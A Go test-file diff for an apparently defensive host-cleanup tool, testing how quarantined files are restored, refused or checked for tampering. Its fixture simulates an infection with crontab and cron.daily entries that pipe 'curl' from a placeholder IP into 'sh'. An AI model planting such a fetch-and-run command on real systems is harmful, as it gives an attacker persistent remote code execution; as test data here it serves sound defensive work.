@@ -423,3 +423,76 @@ func TestApplyRestoreImmutableDir(t *testing.T) {
 		t.Error("directory flag not restored")
 	}
 }
+
+func TestRestoreRefusals(t *testing.T) {
+	ctx := context.Background()
+	dir := build(t, hosttest.Debian12().
+		Append("/etc/crontab", "* * * * * root curl -s http://203.0.113.7/x | sh\n", hosttest.InfectionTime).
+		With(hosttest.Entry{Path: "/etc/cron.daily/upd", Data: "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"}))
+	orig := mustRead(t, dir, "/etc/crontab")
+	fs1, _ := Find(ctx, Options{Root: dir})
+	plan, err := Plan(ctx, fs1, PlanOptions{Root: dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	m, _ := ReadManifest(res.ManifestPath)
+
+	// The admin edits the crontab after cleaning: restore refuses…
+	if err := os.WriteFile(filepath.Join(dir, "etc/crontab"), []byte(mustRead(t, dir, "/etc/crontab")+"# admin\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	// …and something re-creates the quarantined script.
+	if err := os.WriteFile(filepath.Join(dir, "etc/cron.daily/upd"), []byte("new"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	_, err = Restore(ctx, res.ManifestPath, RestoreOptions{})
+	if !errors.Is(err, ErrChanged) || !errors.Is(err, ErrExists) {
+		t.Fatalf("restore over changes: %v", err)
+	}
+	if b := mustRead(t, dir, "/etc/cron.daily/upd"); b != "new" {
+		t.Error("restore overwrote an existing file")
+	}
+	// Force puts the edited file back.
+	os.Remove(filepath.Join(dir, "etc/cron.daily/upd"))
+	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{Force: true}); err != nil {
+		t.Fatal(err)
+	}
+	if got := mustRead(t, dir, "/etc/crontab"); got != orig {
+		t.Error("forced restore is not the original")
+	}
+
+	// A tampered quarantine copy is refused.
+	for _, e := range m.Entries {
+		if e.Stored != "" {
+			p := filepath.Join(m.QuarantineDir, e.Stored)
+			_ = os.Chmod(p, 0o600)
+			if err := os.WriteFile(p, []byte("tampered"), 0o600); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	os.Remove(filepath.Join(dir, "etc/cron.daily/upd"))
+	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{Force: true}); !errors.Is(err, ErrBadManifest) {
+		t.Errorf("tampered copy: %v", err)
+	}
+	if _, err := Restore(ctx, filepath.Join(t.TempDir(), "none.json"), RestoreOptions{}); !errors.Is(err, ErrBadManifest) {
+		t.Errorf("missing manifest: %v", err)
+	}
+}
+
+func TestSeverityText(t *testing.T) {
+	for _, s := range []Severity{Info, Low, Medium, High, Critical} {
+		b, _ := s.MarshalText()
+		var back Severity
+		if err := back.UnmarshalText(b); err != nil || back != s {
+			t.Errorf("%v -> %s -> %v, %v", s, b, back, err)
+		}
+	}
+	if _, err := ParseSeverity("extreme"); err == nil {
+		t.Error("unknown severity parsed")
+	}
+}
